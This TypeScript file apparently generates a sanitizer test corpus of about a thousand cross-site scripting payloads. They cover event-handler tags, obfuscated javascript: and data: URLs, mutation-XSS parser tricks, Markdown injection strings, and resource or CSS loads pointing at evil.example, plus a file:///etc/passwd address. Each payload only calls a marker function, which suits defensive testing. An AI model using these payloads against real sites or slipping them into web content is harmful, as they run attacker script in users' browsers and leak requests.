/** The attack corpus: some thousand pieces of markup and text that run a script or send a request where they are not disarmed. */

/** What a payload calls when it runs, and where it sends requests; `#` is the number of the payload. */
const SCRIPT = '__hit(#)';
const EVIL = 'https://evil.example/#';

export interface Payload {
  readonly family: string;
  /** Markup that stands in the body of an article. */
  readonly html: string;
}

/** Elements whose handler fires without anybody's doing, or at a click or a pointer; `@` is the handler's value. */
const HANDLERS: readonly string[] = [
  '<img src=x onerror=@>',
  '<img src=https://evil.example/ok onload=@>',
  '<svg onload=@>',
  '<svg><g onload=@></g></svg>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><set onbegin=@ attributeName=x>',
  '<svg><image href=x onerror=@>',
  '<svg><script onload=@ href=x></script></svg>',
  '<body onload=@>',
  '<body onpageshow=@>',
  '<details open ontoggle=@><summary>s</summary></details>',
  '<input autofocus onfocus=@>',
  '<select autofocus onfocus=@></select>',
  '<textarea autofocus onfocus=@></textarea>',
  '<button autofocus onfocus=@>b</button>',
  '<a href=# autofocus tabindex=1 onfocus=@>a</a>',
  '<video src=x onerror=@></video>',
  '<video><source src=x onerror=@></video>',
  '<audio src=x onerror=@></audio>',
  '<marquee onstart=@>m</marquee>',
  '<object data=x onerror=@></object>',
  '<embed src=x onload=@>',
  '<iframe onload=@></iframe>',
  '<iframe src=about:blank onload=@></iframe>',
  '<link rel=stylesheet href=x onerror=@>',
  '<style onload=@>a{}</style>',
  '<script src=x onerror=@></script>',
  '<p onmouseover=@>hover here over all of these words of the paragraph</p>',
  '<div onclick=@>click on all of these words of the paragraph, please</div>',
  '<p style="animation:x" onanimationstart=@>moving words of a paragraph</p><style>@keyframes x{}</style>',
  '<math><mi onclick=@>x</mi></math>',
  '<table background=x onmouseover=@><tr><td onmouseover=@>cell<td>cell<tr><td>c<td>d</table>',
  '<blockquote class=twitter-tweet onclick=@>quoted words <a href=https://x.example/1 onclick=@>l</a></blockquote>',
  '<figure onclick=@><img src=https://x.example/a.png onerror=@><figcaption onclick=@>words</figcaption></figure>',
  '<amp-img src=https://x.example/b.png onclick=@ width=100 height=100></amp-img>',
];

/** How attributes are written: quotes, blanks, case, what browsers forgive. */
const SPELLINGS: readonly ((html: string) => string)[] = [
  (html) => html.replaceAll('@', SCRIPT),
  (html) => html.replaceAll('@', `"${SCRIPT}"`),
  (html) => html.replaceAll('@', `'${SCRIPT}'`).replaceAll(' on', '\n/on'),
  (html) => html.replaceAll('@', ` "&#95;&#x5f;hit(#)"`).replaceAll(' on', '\f"x"on').replaceAll('<img', '<ImG'),
  (html) => html.replaceAll('@', `${SCRIPT}//`).replaceAll(' src=', '/src=').replaceAll(' on', '/oN'),
  (html) => `"'>${html.replaceAll('@', SCRIPT)}`,
  (html) => `<${html.replaceAll('@', `"${SCRIPT}"`)}`,
  (html) => html.replaceAll('@', `"${SCRIPT}"`).replaceAll('>', ' x="'),
];

/** Addresses that run a script, by scheme, case, controls and encodings. */
const ADDRESSES: readonly string[] = [
  `javascript:${SCRIPT}`,
  `JaVaScRiPt:${SCRIPT}`,
  `java\tscript:${SCRIPT}`,
  `java\nscript:${SCRIPT}`,
  `java&#9;script:${SCRIPT}`,
  `java&NewLine;script:${SCRIPT}`,
  `&#106;&#97;&#118;&#97;script:${SCRIPT}`,
  `&#x6A&#x61&#x76&#x61script:${SCRIPT}`,
  `javascript&colon;${SCRIPT}`,
  `javascript&#58;${SCRIPT}`,
  `&#1;javascript:${SCRIPT}`,
  `  \u00a0javascript:${SCRIPT}`,
  `\u0000javascript:${SCRIPT}`,
  `java\u00adscript:${SCRIPT}`,
  `javascript://x.example/%0a${SCRIPT}`,
  `javascript:/*https://x.example/*/${SCRIPT}`,
  `javascript:%5f%5fhit(#)`,
  `ｊavascript:${SCRIPT}`,
  `data:text/html,<script>parent.${SCRIPT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQoMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${SCRIPT}'/>`,
  `vbscript:${SCRIPT}`,
  `livescript:${SCRIPT}`,
  `feed:javascript:${SCRIPT}`,
  `view-source:javascript:${SCRIPT}`,
  `blob:https://x.example/1`,
  `filesystem:https://x.example/1`,
  `file:///etc/passwd`,
  `https:javascript:${SCRIPT}`,
  `https://x.example/"onmouseover="${SCRIPT}`,
  `https://x.example/'onmouseover='${SCRIPT}`,
  `https://x.example/"><img src=x onerror=${SCRIPT}>`,
  `https://x.example/](javascript:${SCRIPT})`,
  `https://x.example/) <img src=x onerror=${SCRIPT}>`,
  `https://x.example/\n\n<img src=x onerror=${SCRIPT}>`,
];

/** Where an address may stand; `@` is the address, in double quotes. */
const CARRIERS: readonly string[] = [
  '<a href=@>words that people would click on</a>',
  '<p>Some words <a href=@ target=_blank>and a link</a> and more words of it.</p>',
  '<map><area href=@></map>',
  '<form action=@><button>words</button></form>',
  '<button formaction=@>words</button>',
  '<iframe src=@></iframe>',
  '<iframe data-src=@ width=400 height=300></iframe>',
  '<embed src=@>',
  '<object data=@></object>',
  '<svg><a xlink:href=@><text>words</text></a></svg>',
  '<svg><use href=@></use></svg>',
  '<math href=@><mi>x</mi></math>',
  '<img src=@ alt=x>',
  '<img data-src=@ alt=x>',
  '<img srcset=@ alt=x>',
  '<picture><source srcset=@><img alt=x></picture>',
  '<video poster=@ src=@ width=400 height=300></video>',
  '<audio><source src=@></audio>',
  '<link rel=stylesheet href=@>',
  '<link rel=import href=@>',
  '<base href=@><p><a href="x">words</a></p>',
  '<meta http-equiv=refresh content=@>',
  '<blockquote class="instagram-media" data-instgrm-permalink=@><p>quoted words of a post</p></blockquote>',
  '<blockquote cite=@><p>quoted words of somebody who said so</p></blockquote>',
  '<lite-youtube videoid=@></lite-youtube>',
  '<amp-img src=@></amp-img>',
  '<noscript><img src=@></noscript>',
  '<script src=@></script>',
];

/** Markup that parsers see differently: mutation, namespaces, raw text, templates, comments, sections. `@` runs the script. */
const MUTATIONS: readonly string[] = [
  '<script>@</script>',
  '<script\t>@</script >',
  '<scr<script>ipt>@</scr</script>ipt>',
  '<SCRIPT/x>@</SCRIPT>',
  '<svg><script>@</script></svg>',
  '<svg><script>&#95;_hit(#)</script></svg>',
  '<math><script>@</script></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=@>">',
  '<svg><p><style><g title="</style><img src onerror=@>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@&gt;">',
  '<math><mtext><table><mglyph><style><math><img src=x onerror=@></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>',
  '<math><mtext><option><mglyph><style><!--</style><img src=x onerror=@>-->',
  '<math><annotation-xml encoding="text/html"><style><img src onerror=@></style></annotation-xml></math>',
  '<math><annotation-xml encoding="text/html"><p></annotation-xml><img src onerror=@></math>',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=@>">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.@</script>"></iframe></foreignObject></svg>',
  '<svg><desc><noscript><p title="</noscript><img src=x onerror=@>">',
  '<svg><title><style><img src="</style><img src=x onerror=@//">',
  '<svg><animate attributeName=href values=javascript:@ /><a id=x><text>t</text></a></svg>',
  '<svg><a><animate attributeName=xlink:href to=javascript:@ begin=0s fill=freeze /><text y=20>words</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=@ /></svg>#x"></svg>',
  '<noscript><p title="</noscript><img src=x onerror=@>">words</p></noscript>',
  '<noscript><style></noscript><img src=x onerror=@></style>',
  '<noembed><img title="</noembed><img src=x onerror=@>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=@>"></noframes>',
  '<xmp><img title="</xmp><img src=x onerror=@>"></xmp>',
  '<listing>&lt;img src=x onerror=@&gt;</listing>',
  '<pre>&lt;img src=x onerror=@&gt;</pre>',
  '<textarea></textarea><img src=x onerror=@></textarea>',
  '<title><img title="</title><img src=x onerror=@>"></title>',
  '<iframe srcdoc="<img src=x onerror=parent.@>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.@&lt;/script&gt;"></iframe>',
  '<iframe><img title="</iframe><img src=x onerror=@>"></iframe>',
  '<template><img src=x onerror=@></template>',
  '<template><script>@</script></template>',
  '<div><template shadowrootmode=open><img src=x onerror=@>words</template></div>',
  '<select><template><img src=x onerror=@></template></select>',
  '<select><option><style></option></select><img src=x onerror=@></style>',
  '<table><style><img src=x onerror=@></style></table>',
  '<table><tr><td><svg><td><img src=x onerror=@></table>',
  '<!--><img src=x onerror=@>-->',
  '<!---><img src=x onerror=@>-->',
  '<!-- --!><img src=x onerror=@> -->',
  '<!--[if gte IE 4]><script>@</script><![endif]-->',
  '<![CDATA[<img src=x onerror=@>]]>',
  '<svg><![CDATA[><img src=x onerror=@>]]></svg>',
  '<svg><desc><![CDATA[</desc><img src=x onerror=@>]]></svg>',
  '<math><![CDATA[</math><img src=x onerror=@>]]>words</math>',
  '<?xml-stylesheet href="javascript:@"?><img src=x onerror=@>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=@>">]>&y;',
  '<% <img src=x onerror=@> %>',
  '</p/><img src=x onerror=@>',
  '</<img src=x onerror=@>',
  '<a/href="javascript:@">words</a/>',
  '<style>@import "https://evil.example/#";</style><p>words</p>',
  '<style>body{background:url(https://evil.example/#)}</style>',
  '<p style="background:url(https://evil.example/#)">words of a paragraph with a background</p>',
  '<p style="width:expression(@)">words of a paragraph</p>',
  '<link rel=stylesheet href=https://evil.example/#><link rel=prefetch href=https://evil.example/#>',
  '<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/#">',
  '<base href=https://evil.example/#/><script src=x></script>',
  '<object data=https://evil.example/#></object><embed src=https://evil.example/#>',
  '<iframe src=https://evil.example/#></iframe><frame src=https://evil.example/#>',
  '<video src=https://evil.example/# autoplay poster=https://evil.example/#></video>',
  '<audio src=https://evil.example/# autoplay></audio>',
  '<track src=https://evil.example/#><input type=image src=https://evil.example/#>',
  '<form id=x action=https://evil.example/#><input name=innerHTML><input name=attributes></form>',
  '<a id=__proto__ name=body href=javascript:@>clobbered words</a>',
  '<portal src=https://evil.example/#></portal><fencedframe src=https://evil.example/#></fencedframe>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.example/#"]}]}</script>',
  '<script type=importmap>{"imports":{"x":"https://evil.example/#"}}</script><script type=module>import "x"</script>',
  '<xss style="display:block;animation:a" onanimationend=@>words</xss>',
  '<p>\u0000<\u0000script>@</script></p>',
  '<p>＜script＞@＜/script＞ ‹img src=x onerror=@›</p>',
  '<p>+ADw-script+AD4-@+ADw-/script+AD4-</p>',
];

/** Text that would be markup where Markdown or HTML takes it for such. `@` runs the script. */
const TEXTS: readonly string[] = [
  '[x](javascript:@)',
  '[x](<javascript:@>)',
  '[x]( javascript:@ "t")',
  '[x](JaVaScRiPt&colon;@)',
  '[x](data:text/html,<script>parent.@</script>)',
  '![x](javascript:@)',
  '![x](https://x.example/a.png"onerror="@)',
  '![x" onerror="@](https://x.example/a.png)',
  '[x][y]\n\n[y]: javascript:@',
  '[y]: <javascript:@> "t"',
  '<javascript:@>',
  '<https://x.example/"onmouseover="@>',
  'x](javascript:@)[y',
  '](javascript:@)',
  '"onmouseover="@" x="',
  "'onmouseover='@' x='",
  '"><img src=x onerror=@>',
  "'><img src=x onerror=@>",
  '<img src=x onerror=@>',
  '\n\n<img src=x onerror=@>\n\n',
  '\n<script>\n@\n</script>\n',
  '<script>@</script>',
  '</p><script>@</script>',
  '`<img src=x onerror=@>',
  '``<img src=x onerror=@>`',
  '`` ` <img src=x onerror=@>',
  '```\n<img src=x onerror=@>\n```',
  '~~~\n```\n<img src=x onerror=@>',
  '    <img src=x onerror=@>',
  '\\<img src=x onerror=@>',
  '\\\\<img src=x onerror=@>',
  '\\`<img src=x onerror=@>\\`',
  '*<img src=x onerror=@>*',
  '**[x](javascript:@)**',
  '| a | b |\n| - | - |\n| <img src=x onerror=@> | x |',
  'a\\|<img src=x onerror=@>|',
  '> <img src=x onerror=@>',
  '- <img src=x onerror=@>',
  '# <img src=x onerror=@>',
  '---\ntitle: <img src=x onerror=@>\n---',
  '[^1]: <img src=x onerror=@>\n\n[^1]',
  '[^"onmouseover="@]',
  '&lt;img src=x onerror=@&gt;',
  '&amp;lt;img src=x onerror=@&amp;gt;',
  '&#60;img src=x onerror=@&#62;',
  '<!-- --><img src=x onerror=@>',
  '<![CDATA[<img src=x onerror=@>]]>',
  '<?x <img src=x onerror=@> ?>',
  '<!X <img src=x onerror=@>>',
  '$<img src=x onerror=@>$',
  '$`<img src=x onerror=@>`$',
  '<a href="javascript:@">x</a>',
  '<svg/onload=@>',
  '<b onmouseover=@>bold</b>',
  '\u2028<img src=x onerror=@>',
  '<img\u00a0src=x onerror=@>',
];

/** Where text may stand; `%` is the text with its markup as references, `~` the same for attributes. */
const PLACES: readonly string[] = [
  '<p>Words before it %</p>',
  '<p>%</p>',
  '<h2>%</h2>',
  '<ul><li>Some words of an item</li><li>%</li></ul>',
  '<blockquote><p>%</p></blockquote>',
  '<pre><code class="language-~">%</code></pre>',
  '<p>Inline <code>%</code> and <b>%</b></p>',
  '<table><tr><th>Year<th>%<tr><td>%<td>2</table>',
  '<figure><img src="https://x.example/i.png" alt="~"><figcaption>% <small class=credit>%</small></figcaption></figure>',
  '<p><a href="https://x.example/" title="~">%</a></p>',
  '<iframe src="https://www.youtube.com/embed/abc_DEF-123" title="~" width=400 height=300></iframe>',
  '<p>See<sup><a href="#~">1</a></sup> there.</p><ol><li id="~">%</li></ol>',
  '<math alttext="~"><mi>x</mi></math><math display=block><semantics><mi>x</mi><annotation encoding="application/x-tex">%</annotation></semantics></math>',
  '<ol start="~"><li value="~">%</li></ol>',
];

function escapeText(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
}

/** All payloads; every one calls `__hit` with its own index when it runs. */
export function listPayloads(): Payload[] {
  const payloads: Payload[] = [];
  for (const html of HANDLERS) for (const spell of SPELLINGS) payloads.push({ family: 'handlers', html: spell(html) });
  for (const carrier of CARRIERS) {
    for (const address of ADDRESSES)
      payloads.push({ family: 'addresses', html: carrier.replaceAll('@', `"${address.replaceAll('"', '&quot;')}"`) });
  }
  for (const html of MUTATIONS) {
    payloads.push({ family: 'mutations', html: html.replaceAll('@', SCRIPT) });
    payloads.push({ family: 'mutations', html: `<p>Words that stand before it ${html.replaceAll('@', SCRIPT)} and words behind it.</p>` });
  }
  for (const text of TEXTS) {
    const escaped = escapeText(text.replaceAll('@', SCRIPT));
    for (const place of PLACES) payloads.push({ family: 'texts', html: place.replaceAll('%', escaped).replaceAll('~', escaped) });
  }
  return payloads.map(({ family, html }, i) => ({
    family,
    html: html.replaceAll('(#)', `(${i})`).replaceAll(EVIL, `https://evil.example/${i}`),
  }));
}
